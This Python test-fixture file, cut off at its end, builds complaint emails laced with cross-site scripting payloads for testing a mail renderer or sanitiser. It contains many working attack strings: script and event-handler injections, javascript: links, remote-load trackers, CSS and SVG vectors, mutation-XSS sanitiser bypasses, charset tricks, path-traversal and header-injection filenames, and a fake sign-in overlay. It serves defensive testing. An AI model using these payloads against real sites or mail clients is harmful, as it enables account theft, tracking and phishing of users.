"""Hostile complaints: mail that reads like a complaint and tries to run or load something where it is shown.

Every payload calls the marker `__ran` with the message's number, or loads from the canary under that number, so that
whatever gets through says who it was. Nothing here is random: the same numbers are the same messages.
"""

import base64, collections, itertools, quopri

Hostile = collections.namedtuple("Hostile", "number group payload raw control")
"""`raw` is the message; `control` is (bytes, content type) of a page that holds the payload as it is."""

MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October"]
COUNTS = ["three", "four", "five", "six", "seven", "eight", "nine"]
NAMES = ["Ada Okafor", "Owen Prydderch", "Lena Marsh", "Tom Adeyemi", "Ruth Blake", "Iain Moss", "Sara Quill", "Ben Hale"]

# MARK: payloads. J is a call of the marker without quotes or blanks, U an address of the canary.

SCRIPT = """
<script>J</script>
<SCRIPT>J</SCRIPT>
<ScRiPt >J</sCrIpT >
<script/x>J</script>
<script\t>J</script>
<script src=U.js></script>
<script src=//HOST/U.js></script>
<script async defer src='U.js'></script>
<script type=module>J</script>
<script type=module>import 'U.js'</script>
<script>import('U.js')</script>
<script>fetch('U')</script>
<script>navigator.sendBeacon('U')</script>
<script>new Image().src='U'</script>
<script>new WebSocket('ws://HOST/U')</script>
<script>top.location='U'</script>
<script>parent.postMessage('x','*');J</script>
<script>alert(1);J</script>
<script>confirm(1);J</script>
<script>prompt(1);J</script>
<script>print();J</script>
<script>window.open('U');J</script>
<script>document.write('<img src=U>');J</script>
<script>eval('J')</script>
<script>setTimeout('J',1)</script>
<script>document.body.innerHTML='<img src=x onerror=J>'</script>
<script>new Worker('U.js');J</script>
<script type=importmap>{"imports":{"a":"U.js"}}</script><script type=module>import 'a'</script>
<<script>J//<</script>
<script>J
""".strip().split("\n")
SCRIPT += ["<script><!--\nJ\n//--></script>"]

HANDLERS = """
<img src=x onerror=J>
<img src=x onerror="J">
<img src=x oneRRor='J'>
<img/src=x/onerror=J>
<img src=x:x onerror=J >
<img src onerror=J>
<image src=x onerror=J>
<body onload=J>
<body onpageshow=J>
<body onresize=J onfocus=J onload=J>
<input autofocus onfocus=J>
<select autofocus onfocus=J>
<textarea autofocus onfocus=J>
<button autofocus onfocus=J>x</button>
<a href=# autofocus onfocus=J>x</a>
<p tabindex=1 autofocus onfocus=J>x
<details open ontoggle=J>
<video><source onerror=J>
<video src=x onerror=J>
<audio src=x onerror=J>
<video onloadstart=J src=x>
<iframe onload=J></iframe>
<object data=x onerror=J>
<embed src=x onerror=J>
<embed src=data:text/html,x onload=J>
<link rel=stylesheet href=x onerror=J>
<script src=x onerror=J></script>
<style onload=J></style>
<svg onload=J>
<svg/onload=J>
<svg onload=J//
<p style="animation:x 1s" onanimationstart=J><style>@keyframes x{}</style>
<p onmouseover=J style="position:fixed;inset:0">x
<p onpointerenter=J onclick=J>x
<a onclick=J href=#>click</a>
<marquee onstart=J>x</marquee>
<form oninput=J onsubmit=J><input type=submit autofocus onfocus=J>
<dialog open onclose=J><form method=dialog><button>x</button></form></dialog>
<input type=image src=x onerror=J>
<math><mtext onclick=J>x</mtext></math>
<custom-tag autofocus tabindex=1 onfocus=J>x
<p onbeforematch=J hidden=until-found>x
<button popovertarget=p>x</button><p id=p popover onbeforetoggle=J>x
<img src=x onerror=J//
<img src=x " onerror=J>
<img src=x ' onerror=J '>
<img src=`x` onerror=J>
<p/onclick=J/autofocus/tabindex=1/onfocus=J>x
""".strip().split("\n")

HANDLERS += ["<img src=x onerror\n=\nJ>", "<img\fsrc=x\fonerror=J>"]

LINKS = """
<a href=javascript:J>click</a>
<a href="javascript:J">click</a>
<a href=JaVaScRiPt:J>click</a>
<a href=" javascript:J">click</a>
<a href="java&#10;script:J">click</a>
<a href="java&Tab;script:J">click</a>
<a href="&#106;avascript:J">click</a>
<a href="&#x6a&#x61vascript&colon;J">click</a>
<a href="\x01javascript:J">click</a>
<a href="javascript&NewLine;:J">click</a>
<a href=javascript:J target=_blank>click</a>
<a href=data:text/html,<script>J</script>>click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href=vbscript:J>click</a>
<a href=U>track me</a>
<a href=x ping=U>click</a>
<a href=http://127.0.0.1:PORT/N>this machine</a>
<a href=//HOST/U>click</a>
<a href=U target=_blank rel=opener>click</a>
<area href=javascript:J>x
<map name=m><area shape=default href=javascript:J></map><img usemap=#m src=x>
<iframe src=javascript:J></iframe>
<iframe src="javascript:J"></iframe>
<iframe src="java\tscript:J"></iframe>
<embed src=javascript:J>
<object data=javascript:J>
<form action=javascript:J><button>x</button></form>
<form><button formaction=javascript:J>x</button></form>
<form><input type=submit formaction=javascript:J></form>
<isindex action=javascript:J type=submit value=x>
<math><maction actiontype=statusline xlink:href=javascript:J>x</maction></math>
<math href=javascript:J>click</math>
<svg><a href=javascript:J><text y=20>click</text></a></svg>
<svg><a xlink:href=javascript:J><text y=20>click</text></a></svg>
<base href=javascript:J//><a href=x>click</a>
<table background=javascript:J><tr><td>x
<img src=javascript:J>
<img lowsrc=javascript:J dynsrc=javascript:J>
""".strip().split("\n")

LOADS = """
<img src=U>
<img src="U" width=1 height=1>
<img src=//HOST/U>
<img src=x srcset="U 1x, U?2 2x">
<img srcset=U>
<picture><source srcset=U><img src=x></picture>
<picture><source type=image/png srcset="U 1x"><img src=U></picture>
<img src=http://127.0.0.1:PORT/N>
<img src=http://0x7f000001:PORT/N>
<img src=http://[::1]:PORT/N>
<img src=HTTP://HOST/N>
<img src=\\\\HOST\\N>
<img src=/\\HOST/N>
<img src=U loading=eager fetchpriority=high>
<img src=U crossorigin=anonymous>
<img src=cid:somebody-elses-part@example.org>
<input type=image src=U>
<video src=U autoplay></video>
<video poster=U></video>
<video><source src=U></video>
<video><track default kind=captions src=U></video>
<audio src=U autoplay></audio>
<audio><source src=U></audio>
<iframe src=U></iframe>
<iframe srcdoc="<img src=U>"></iframe>
<iframe srcdoc="<script>J</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.J&lt;/script&gt;"></iframe>
<frameset><frame src=U></frameset>
<object data=U></object>
<object type=text/html data=U></object>
<object data=data:text/html,<script>J</script>></object>
<embed src=U>
<applet code=x codebase=U></applet>
<applet archive=U code=x></applet>
<portal src=U></portal>
<fencedframe src=U></fencedframe>
<link rel=stylesheet href=U.css>
<link rel=preload as=image href=U>
<link rel=prefetch href=U>
<link rel=prerender href=U>
<link rel=preconnect href=U>
<link rel=dns-prefetch href=//nN.dns.test>
<link rel=modulepreload href=U.js>
<link rel=icon href=U>
<link rel=manifest href=U>
<link rel=import href=U>
<link rel="alternate stylesheet preload" as=style href=U.css>
<meta http-equiv=refresh content="0;url=U">
<meta http-equiv=refresh content="0;url=javascript:J">
<meta http-equiv=refresh content="0;url=data:text/html,<script>J</script>">
<META HTTP-EQUIV="Refresh" CONTENT="0; URL='U'">
<meta http-equiv=set-cookie content="intake=stolen">
<meta http-equiv=content-security-policy content="default-src *">
<meta http-equiv=Link content="<U.css>; rel=stylesheet">
<meta http-equiv=x-dns-prefetch-control content=on><a href=//nN.dns.test>x</a>
<meta name=referrer content=unsafe-url><img src=U>
<meta charset=utf-7>+ADw-script+AD4-J+ADw-/script+AD4-
<base href=U/><img src=x>
<base href=//HOST/><img src=N>
<base target=_blank><a href=U>x</a>
<html manifest=U>
<body background=U>
<table background=U><tr><td background=U>x
<bgsound src=U>
<xml src=U id=x></xml>
<form action=U><input name=password autofocus onfocus=form.submit()></form>
<form action=U method=post id=f></form><button form=f>x</button>
<form><button formaction=U>x</button></form>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["U"]}]}</script>
<a href=U attributionsrc=U>x</a>
<img attributionsrc=U src=x>
<ruby><rt><img src=U></rt></ruby>
<template shadowrootmode=open><img src=U></template>
<p><template shadowrootmode=open><style>@import "U.css";</style><img src=x onerror=J></template></p>
""".strip().split("\n")

STYLES = """
<style>@import 'U.css';</style>
<style>@import url(U.css);</style>
<style>@import"U.css"</style>
<style>body{background:url(U)}</style>
<style>body{background:url('U')}</style>
<style>@font-face{font-family:x;src:url(U)}body{font-family:x}</style>
<style>li{list-style:url(U)}</style><li>x
<style>p::before{content:url(U)}</style><p>x
<style>p{cursor:url(U),auto}</style><p>x
<style>body{background:\\75rl(U)}</style>
<style>body{background:image-set(url(U) 1x)}</style>
<style>p{border-image:url(U)}</style><p>x
<style>p{mask:url(U#x);filter:url(U#y)}</style><p>x
<style>@namespace url(U);body{background:url(U)}</style>
<style>input[value^=a]{background:url(U)}</style><input value=a>
<style>*{x:expression(J)}</style>
<style>body{behavior:url(U)}</style>
<style>body{-moz-binding:url(U#x)}</style>
<style><!--</style><img src=U>--></style>
<style>/*</style><img src=x onerror=J>*/</style>
<style>a{b:'</style><img src=x onerror=J>'}</style>
<p style="background:url(U)">x
<p style='background:url("U")'>x
<p style="background:u\\rl(U)">x
<p style="width:expression(J)">x
<p style="position:fixed;inset:0;background:#fff;z-index:9999">Signed out. Please sign in again.
<p style="position:absolute;top:-200px;left:0;width:9999px;height:9999px">over everything
<div style="background-image:url(&#34;U&#34;)">x
<div style="--x:url(U);background:var(--x)">x
<link rel=stylesheet href="data:text/css,body{background:url(U)}">
<style>:root{color-scheme:only dark}body{background:url(U) !important}</style>
<font color=red style=x:expression(J) size=7 face=url(U)>x
""".strip().split("\n")

DRAWINGS = """
<svg><script>J</script></svg>
<svg><script href=U.js /></svg>
<svg><script xlink:href=U.js></script></svg>
<svg><script>&#95;&#95;ran(String(N))</script></svg>
<svg><animate onbegin=J attributeName=x dur=1s>
<svg><set onbegin=J attributename=x>
<svg><animatetransform onbegin=J attributeName=transform>
<svg><a><animate attributeName=href values=javascript:J /><text y=20>click</text></a></svg>
<svg><a><set attributeName=href to=javascript:J /><text y=20>click</text></a></svg>
<svg><animate href=#a attributeName=href values="javascript:J"/><a id=a><text y=20>x</text></a></svg>
<svg><use href=U#x></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:J'/></svg>#x"></svg>
<svg><image href=U></svg>
<svg><image xlink:href=U width=10 height=10></svg>
<svg><image href=x onerror=J></svg>
<svg><feImage href=U></svg>
<svg><filter id=f><feImage xlink:href=U /></filter><rect filter=url(#f) width=9 height=9></svg>
<svg><foreignObject><script>J</script></foreignObject></svg>
<svg><foreignObject><iframe src=javascript:J></foreignObject></svg>
<svg><foreignObject><img src=x onerror=J></foreignObject></svg>
<svg><style>@import 'U.css';</style></svg>
<svg><style>*{fill:url(U#x)}</style><rect width=9 height=9></svg>
<svg><rect fill="url(U#x)" width=9 height=9></svg>
<svg><rect style="fill:url(U#x)" width=9 height=9></svg>
<svg><title><img src=x onerror=J></title></svg>
<svg><desc><img src=x onerror=J></desc></svg>
<svg><discard onbegin=J></svg>
<svg><handler type=text/javascript ev:event=load>J</handler></svg>
<svg><cursor xlink:href=U></svg>
<svg><a xlink:href=U><circle r=40></a></svg>
<svg><pattern id=p><image href=U /></pattern><rect fill=url(#p) width=9 height=9></svg>
<svg><textPath href=U#x>x</textPath></svg>
<svg><mpath href=U></svg>
<svg xmlns:xlink=x><script xlink:href=U.js /></svg>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='J'/>">
<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='J'/>"></iframe>
<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<math><mtext><script>J</script></mtext></math>
<math><mi><img src=x onerror=J></mi></math>
<math><annotation-xml encoding=text/html><script>J</script></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=J></annotation-xml></math>
<math><mglyph src=U></math>
<math><semantics><mtext><iframe src=U></iframe></mtext></semantics></math>
<math xlink:href=U><mi>x</mi></math>
""".strip().split("\n")

# Published ways to make a sanitiser and a browser read the same bytes differently.
MUTATIONS = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=J&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=J>
<noscript><p title="</noscript><img src=x onerror=J>">
<svg></p><style><a id="</style><img src=1 onerror=J>">
<svg><style><img src=x onerror=J></style></svg>
<svg><style>&lt;img src=x onerror=J&gt;</style></svg>
<svg><style><![CDATA[</style><img src=x onerror=J>]]></style></svg>
<math><style><img src=x onerror=J></style></math>
<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=x onerror=J>">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=J>">
<svg><title><a title="</title><img src=x onerror=J>">
<svg><desc><style><a title="</style><img src=x onerror=J>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=J></style></annotation-xml></math>
<select><template><style></template></select><img src=x onerror=J>
<select><option><style></option></select><img src=x onerror=J></style>
<table><td><svg><desc><td><noscript></desc><style><img src=x onerror=J>
<a href="x"><svg><foreignobject><a><style><a title="</style><img src=x onerror=J>">
<xmp><p title="</xmp><img src=x onerror=J>">
<iframe><p title="</iframe><img src=x onerror=J>">
<noembed><p title="</noembed><img src=x onerror=J>">
<noframes><p title="</noframes><img src=x onerror=J>">
<textarea><p title="</textarea><img src=x onerror=J>">
<title><p title="</title><img src=x onerror=J>">
<template><p title="</template><img src=x onerror=J>">
<plaintext><p title="</plaintext><img src=x onerror=J>">
<!--><img src=x onerror=J>-->
<!---><img src=x onerror=J>-->
<!-- --!><img src=x onerror=J>-->
<!-- -- ><img src=x onerror=J>-->
<!--<img src="--><img src=x onerror=J>">-->
<!--[if IE]><script>J</script><![endif]-->
<![CDATA[<img src=x onerror=J>]]>
<![CDATA[><img src=x onerror=J>]]>
<?xml ><img src=x onerror=J>?>
<?php echo "><img src=x onerror=J>" ?>
<!doctype x "><img src=x onerror=J>">
<!x><img src=x onerror=J>
</ img src=x onerror=J><img src=x onerror=J>
</p/><img src=x onerror=J>
</><img src=x onerror=J>
<p title="><img src=x onerror=J>">x
<p title='"><img src=x onerror=J>'>x
<p title=`><img src=x onerror=J>`>x
<p =x><img src=x onerror=J>
<p x="a"b="<img src=x onerror=J>">x
<p "=><img src=x onerror=J>
<p x=""'><img src=x onerror=J>'>x
<p<img src=x onerror=J>
<p <img src=x onerror=J>>x
<div/"/<img src=x onerror=J>
<img src=x onerror=J <p>
<img src="x
<b><img src=x onerror=J
<svg><p><style><g title="</style><img src=x onerror=J>">
<svg><font color><style><img src=x onerror=J></style>
<body><head><style></head><img src=x onerror=J></style>
<head><title></head><img src=x onerror=J>
<head><p>x<script>J</script>
<head/><body/onload=J>
<frameset onload=J>
<table><script>J</script>
<table><tr><img src=x onerror=J>
<table><caption><svg><title><table><style><img src=x onerror=J>
<li><svg><li><style><img src=x onerror=J>
""".strip().split("\n")

WRAPPERS = ["title", "textarea", "style", "xmp", "noscript", "noembed", "noframes", "iframe", "template", "select",
            "svg", "math", "svg><style", "svg><title", "svg><desc", "svg><foreignObject", "math><mtext", "object",
            "math><annotation-xml encoding=text/html", "table", "applet", "head", "script", "plaintext", "listing",
            "button", "frameset", "audio", "video", "canvas", "details open", "dialog open", "marquee", "fieldset"]
CARRIERS = ["<img src=x onerror=J>", "<svg onload=J>", "<script>J</script>", "<img src=U>",
            "<iframe srcdoc='<script>J</script>'></iframe>", "<a href=javascript:J>click</a>"]

TEXTS = [
    "<script>J</script>", "\"><img src=U onerror=J>", "'><svg onload=J>", "\" onmouseover=J autofocus onfocus=J x=\"",
    "' autofocus onfocus=J x='", "</title><script>J</script>", "</textarea><img src=x onerror=J>",
    "--><img src=x onerror=J><!--", "javascript:J", "{{{token}}} {{#decides}} {{>layout}} {{constructor}}",
    "&lt;img src=x onerror=J&gt;", "&#60;script&#62;J&#60;/script&#62;",
    "\"\u0301 autofocus onfocus=J x=\"\u0301", "<\u0301script>J</script\u0301>", "\u202egnp.<script>J</script>\u202c",
    "\u200b<img src=x onerror=J>\u200d", "\uff1cscript\uff1eJ\uff1c/script\uff1e", "%3Cscript%3EJ%3C/script%3E",
    "</mark></div></article></main><img src=x onerror=J>", "]]><script>J</script>", "\\u003cscript\\u003eJ",
    "${J} #{J} <%= J %>", "`><img src=x onerror=J>`", "<!--<script>J</script>",
]


def fill(payload, number, port):
    host = f"c{number}.canary.test:{port}"
    # Every other message names the canary by its address instead.
    url = f"http://{host}/{number}" if number % 2 else f"http://127.0.0.1:{port}/{number}"
    for mark, value in (("//HOST/U", f"//{host}/{number}"), ("ws://HOST/U", f"ws://{host}/{number}"),
                        ("HOST", host), ("PORT", str(port)), ("U", "\0U"), ("J", "\0J")):
        # Capital letters of words (URL, JaVaScRiPt) are no places to fill.
        payload = replace_alone(payload, mark, value) if mark in ("U", "J") else payload.replace(mark, value)
    payload = payload.replace("\0U", url).replace("\0J", f"__ran(String({number}))")
    return replace_alone(payload, "N", str(number)).replace("nN.dns", f"n{number}.dns")


def replace_alone(text, letter, value):
    out = []
    for index, c in enumerate(text):
        before = text[index - 1] if index else " "
        after = text[index + 1] if index + 1 < len(text) else " "
        alone = not (before.isalnum() and before.isascii()) and not (after.isalnum() and after.isascii())
        out.append(value if c == letter and alone else c)
    return "".join(out)


# MARK: messages

def words(number):
    """A letter that any triage must leave for a person to read."""
    return (f"Dear Sir or Madam,\n\nI am writing to complain about Meridian and my renewal. I have emailed your team "
            f"{COUNTS[number % 7]} times since {MONTHS[number % 10]} about my renewal and nobody has replied. I have chased "
            f"you again and again and nobody has answered. It is not good enough and I want an apology for letter {number}."
            f"\n\nYours faithfully\n{NAMES[number % len(NAMES)]}\n")


def headers(number, **changed):
    fields = {
        "From": f"{NAMES[number % len(NAMES)]} <hostile{number}@example.org>",
        "To": "complaints@meridian-mutual.example",
        "Subject": f"Complaint about my renewal, letter {number}",
        "Message-ID": f"<hostile-{number}@example.org>",
        "Date": "Sat, 28 Nov 2026 09:00:00 +0000", "MIME-Version": "1.0",
    }
    fields.update({name.replace("_", "-"): value for name, value in changed.items()})
    out = b""
    for name, value in fields.items():
        if value is not None:
            out += name.encode() + b": " + (value if isinstance(value, bytes) else value.encode()) + b"\n"
    return out


def coded(body, number):
    """A body in one of the transfer encodings, turn by turn."""
    way = number % 3
    if way == 0 and all(len(line) < 900 for line in body.split(b"\n")):
        return b"8bit", body
    if way == 1:
        return b"quoted-printable", quopri.encodestring(body)
    return b"base64", base64.encodebytes(body)


def part(content_type, body, number, more=b""):
    encoding, data = coded(body, number)
    return (b"Content-Type: " + content_type.encode() + b"\nContent-Transfer-Encoding: " + encoding + b"\n" + more + b"\n"
            + data + b"\n")


def page_of(number, payload):
    paragraphs = "".join(f"<p>{line}</p>" for line in words(number).split("\n\n"))
    return f"<html><body>{paragraphs}{payload}<p>The end of {number}.</p></body></html>"


def with_html(number, payload, **changed):
    """The payload laid out as HTML, and as plain words beside it: both are shown."""
    html = page_of(number, payload).encode("utf-8", "surrogateescape")
    if number % 4 == 3:
        return headers(number, **changed) + part("text/html; charset=utf-8", html, number)
    boundary = f"b{number}"
    kind = "related" if number % 4 == 2 else "alternative"
    text = (words(number) + "\n" + payload).encode("utf-8", "surrogateescape")
    return (headers(number, **changed) + f'Content-Type: multipart/{kind}; boundary="{boundary}"\n\n'.encode()
            + b"--" + boundary.encode() + b"\n" + part("text/plain; charset=utf-8", text, number)
            + b"--" + boundary.encode() + b"\n" + part("text/html; charset=utf-8", html, number + 1)
            + b"--" + boundary.encode() + b"--\n")


def with_text(number, text, **changed):
    return headers(number, **changed) + part("text/plain; charset=utf-8", text.encode("utf-8", "surrogatepass"), number)


def encoded_word(text, way):
    data = text.encode("utf-8", "surrogatepass")
    if way == 0:
        return b"=?utf-8?B?" + base64.b64encode(data) + b"?="
    if way == 1:
        return b"=?utf-8?Q?" + b"".join(b"=%02X" % byte for byte in data) + b"?="
    if way == 2:
        return b"=?utf-7?Q?" + text.encode("utf-7").replace(b"=", b"=3D").replace(b"?", b"=3F").replace(b" ", b"_") + b"?="
    return data.replace(b"\n", b" ")


def quoted(text):
    return b'"' + text.encode("utf-8", "surrogatepass").replace(b"\\", b"\\\\").replace(b'"', b'\\"') + b'"'


FIELDS = {
    "subject": lambda n, t: dict(Subject=f"Complaint {n} ".encode() + encoded_word(t, n % 4)),
    "from name": lambda n, t: dict(From=(encoded_word(t, n % 3) if n % 4 else quoted(t)) + f" <hostile{n}@example.org>".encode()),
    "from address": lambda n, t: dict(From=quoted(t) + b"@example.org"),
    "reply-to": lambda n, t: dict(Reply_To=(encoded_word(t, n % 2) if n % 3 else quoted(t)) + b" <other@example.net>"),
    "to": lambda n, t: dict(To=quoted(t) + b" <complaints@meridian-mutual.example>"),
    "cc": lambda n, t: dict(Cc=encoded_word(t, n % 2) + b" <copy@example.net>, " + quoted(t) + b" <more@example.net>"),
    "message-id": lambda n, t: dict(Message_ID=b"<" + t.encode("utf-8", "surrogatepass") + b"@example.org>"),
    "authentication": lambda n, t: dict(Authentication_Results=b"mx.meridian-mutual.example; dkim=fail reason=" + quoted(t)),
    "date": lambda n, t: dict(Date=b"Sat, 28 Nov 2026 09:00:00 +0000 (" + t.encode("utf-8", "surrogatepass") + b")"),
    "references": lambda n, t: dict(References=b"<" + t.encode("utf-8", "surrogatepass") + b">", In_Reply_To=quoted(t)),
    "content type": lambda n, t: dict(Content_Type=b"text/plain; charset=utf-8; name=" + quoted(t) + b"; " + quoted(t)),
}

FILE_NAMES = [
    "x.html", "x.svg", "x.xhtml", "x.xml", "../../etc/passwd", "..\\..\\boot.ini", "C:\\x.html", "/etc/passwd",
    "a\r\nSet-Cookie: intake=stolen", "a\r\n\r\n<script>J</script>", 'a"; filename*=UTF-8\'\'x.html; x="',
    "\"><img src=x onerror=J>.png", "<script>J</script>.pdf", "' onfocus=J autofocus x='.png", ".htaccess", "\u200b.htaccess",
    "CON", "x." * 60, "\u202egnp.lmth", "a%0d%0aX: y", "", " ", "\x00x.html", "{{{token}}}.txt",
]
FILE_TYPES = ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "image/png", "message/rfc822",
              "application/javascript", "text/html; x=\"><script>J</script>", "image/png\"><img/src=x", "text/css"]


def with_file(number, name, kind, port):
    boundary = f"b{number}"
    content = fill("<svg xmlns='http://www.w3.org/2000/svg' onload='J'><script>J</script><image href='U'/></svg>", number, port)
    safe = name.encode("utf-8", "surrogatepass")
    way = number % 3
    if way == 0:
        named = b"filename*=utf-8''" + b"".join(b"%%%02X" % byte for byte in safe)
    elif way == 1:
        named = b"filename=" + quoted(name.replace("\r", " ").replace("\n", " "))
    else:
        named = b'filename="' + encoded_word(name, 0) + b'"'
    disposition = b"inline" if number % 2 else b"attachment"
    return (headers(number, Content_Type=f'multipart/mixed; boundary="{boundary}"') + b"\n--" + boundary.encode() + b"\n"
            + part("text/plain; charset=utf-8", words(number).encode(), number) + b"--" + boundary.encode() + b"\n"
            + part(kind, content.encode(), number, b"Content-Disposition: " + disposition + b"; " + named + b"\n")
            + b"--" + boundary.encode() + b"--\n")


def charsets(number, port):
    """The same script behind encodings that a reader may take for another."""
    script = fill("<script>J</script><img src=x onerror=J>", number, port)
    html = page_of(number, script)

    def under(label, data, title):
        return title, data, label

    yield under("utf-7", html.replace("<script>", "+ADw-script+AD4-").replace("<img", "+ADw-img").encode("ascii", "replace"), "utf-7")
    yield under("UTF-7", page_of(number, "").encode().replace(b"</body>", b"+ADw-script+AD4-x+ADw-/script+AD4-</body>"), "utf-7 tags")
    for name in ("utf-16le", "utf-16be", "utf-16", "utf-32"):
        yield under(name, html.encode(name), name)
    yield under("utf-8", b"\xff\xfe" + html.encode("utf-16le"), "utf-16 called utf-8")
    yield under("utf-8", b"\xfe\xff" + html.encode("utf-16be"), "utf-16be called utf-8")
    yield under("utf-8", html.replace("<script>", "\0<\0script\0>\0").encode(), "NULs between")
    yield under("utf-8", html.replace("<script>", "<scr\0ipt>").replace("<img", "<i\0mg").encode(), "NULs inside")
    yield under("utf-8", html.encode().replace(b"<script>", b"\xc0\xbcscript\xc0\xbe"), "overlong")
    yield under("utf-8", html.encode().replace(b"<script>", b"\xe0\x80\xbcscript\xe0\x80\xbe"), "overlong of three")
    yield under("utf-8", html.encode().replace(b"<img", b"\xf0<img").replace(b"<script", b"\xe2<script"), "cut sequences")
    yield under("iso-2022-jp", html.encode().replace(b"<script>", b"\x1b$B\x1b(J<script>\x1b(B"), "iso-2022-jp")
    yield under("iso-2022-jp", html.encode().replace(b"<p>", b'<p title="\x1b$B"></p><p title="\x1b(B><img src=x onerror=1>">', 1), "iso-2022-jp quote")
    yield under("iso-2022-kr", html.encode(), "iso-2022-kr")
    yield under("hz-gb-2312", html.encode().replace(b"<script>", b"~{~}<script>"), "hz")
    yield under("shift_jis", html.encode().replace(b"<p>", b'<p title="\x81"><p>', 1), "shift_jis lead byte")
    yield under("gbk", html.encode().replace(b"<p>", b'<p title="\xbf"><p>', 1), "gbk lead byte")
    yield under("big5", html.encode().replace(b"<p>", b'<p title="\xa1"><p>', 1), "big5 lead byte")
    yield under("euc-kr", html.encode(), "euc-kr")
    yield under("x-user-defined", html.encode(), "x-user-defined")
    yield under("cp037", html.encode("cp037", "replace"), "ebcdic")
    yield under("x-mac-farsi", html.encode().replace(b"<script>", b"\xbcscript\xbe"), "mac")
    yield under("us-ascii", html.encode().replace(b"<script>", b"\xbcscript\xbe"), "eighth bit dropped")
    yield under("nonsense", html.encode(), "unknown charset")
    yield under('utf-8"><script>', html.encode(), "charset with a tag")
    yield under("", b"\x2b\x2f\x76\x38\x2d" + html.encode(), "utf-7 mark")
    yield under("", (html.replace("<html>", "<html><head><meta charset=utf-7></head>")).encode(), "meta utf-7")
    yield under("", (html.replace("<html>", "<html><head><meta charset=iso-2022-jp></head>")).encode(), "meta iso-2022-jp")


def disguised(payload):
    """Everything as character references, in the three ways that a reader undoes."""
    yield "".join(f"&#{ord(c)};" for c in payload)
    yield "".join(f"&#x{ord(c):x};" for c in payload)
    yield payload.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    yield payload.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield payload.replace("<", "&LT").replace(">", "&GT")


def big():
    yield "many open tags", "<b>" * 100_000
    yield "many nested tables", "<table><tr><td>" * 20_000 + "<img src=U>"
    yield "many attributes", "<p " + "x" * 50 + " a=b" * 50_000 + " onclick=J>x"
    yield "one long attribute", "<img src=x title='" + "a" * 500_000 + "' onerror=J>"
    yield "many comments", "<!-- x -->" * 50_000 + "<script>J</script>"
    yield "many entities", "&lt;script&gt;" * 40_000
    yield "many unclosed quotes", "<p title=\"" * 30_000 + "<img src=x onerror=J>"
    yield "many ends", "</div></p></table></body></html>" * 20_000 + "<script>J</script>"
    yield "many marks over a letter", "a" + "\u0301" * 200_000
    yield "many overrides", "\u202e\u202d" * 50_000 + "<script>J</script>"
    yield "many svg", "<svg>" * 50_000 + "<script>J</script>"
    yield "one long word", "W" * 300_000
    yield "many heads", "<head>" * 8_000
    yield "many script starts", "<script" * 50_000


def all_hostile(port):
    """Every message, numbered from 1."""
    numbers = itertools.count(1)

    def control(payload):
        return page_of(0, payload).encode("utf-8", "surrogatepass"), "text/html; charset=utf-8"

    def html(group, payloads, change=lambda text: text):
        for payload in payloads:
            number = next(numbers)
            filled = change(fill(payload, number, port))
            yield Hostile(number, group, payload, with_html(number, filled), control(filled))

    yield from html("script", SCRIPT)
    yield from html("handler", HANDLERS)
    yield from html("link", LINKS)
    yield from html("load", LOADS)
    yield from html("style", STYLES)
    yield from html("svg and math", DRAWINGS)
    yield from html("mutation", MUTATIONS)
    nested = []
    for index, wrapper in enumerate(WRAPPERS):
        ends = "".join(f"</{tag.split()[0]}>" for tag in reversed(wrapper.split("><")))
        for turn in range(2):
            carrier = CARRIERS[(index + turn) % len(CARRIERS)]
            nested.append(f"<{wrapper}>{carrier}{ends}")
            nested.append(f'<{wrapper}><a title="{ends}{carrier}">x</a>')
        nested.append(f"<{wrapper}>{CARRIERS[index % 3]}")
    yield from html("nested", nested)
    for payload in (SCRIPT[0], HANDLERS[0], LINKS[0], LOADS[0]):
        for way in range(5):
            yield from html("entities", [payload], lambda text, way=way: list(disguised(text))[way])
    for name, change in FIELDS.items():
        for payload in TEXTS:
            number = next(numbers)
            filled = fill(payload, number, port)
            fields = change(number, filled)
            if "Content_Type" in fields:
                raw = headers(number, **fields) + b"\n" + words(number).encode()
            else:
                raw = with_text(number, words(number), **fields)
            attribute = f'<p title="{filled}">{filled}</p><p title=\'{filled}\'></p>'
            yield Hostile(number, f"header: {name}", payload, raw, control(attribute))
    for payload in TEXTS:
        number = next(numbers)
        filled = fill(payload, number, port)
        # In the middle of the words that make the verdict, so that marks are cut around it and reasons quote it.
        text = words(number).replace("to complain about", f"to complain {filled} about", 1).replace(
            "nobody has answered.", f"nobody has answered {filled}.")
        yield Hostile(number, "text", payload, with_text(number, text), control(f'<p title="{filled}">{filled}</p>'))
    for index, name in enumerate(FILE_NAMES * 2):
        number = next(numbers)
        filled = fill(name, number, port)
        kind = fill(FILE_TYPES[index % len(FILE_TYPES)], number, port)
        yield Hostile(number, "file", name, with_file(number, filled, kind, port), control(f'<a href="{filled}" title="{kind}">{filled}</a>'))
    titles = [title for title, _, _ in charsets(0, port)]
    for index, title in enumerate(titles):
        number = next(numbers)
        _, data, label = list(charsets(number, port))[index]
        kind = "text/html" + (f"; charset={label}" if label else "")
        boundary = f"b{number}"
        raw = (headers(number, Content_Type=f'multipart/alternative; boundary="{boundary}"') + b"\n--" + boundary.encode()
               + b"\n" + part("text/plain; charset=utf-8", words(number).encode(), number) + b"--" + boundary.encode() + b"\n"
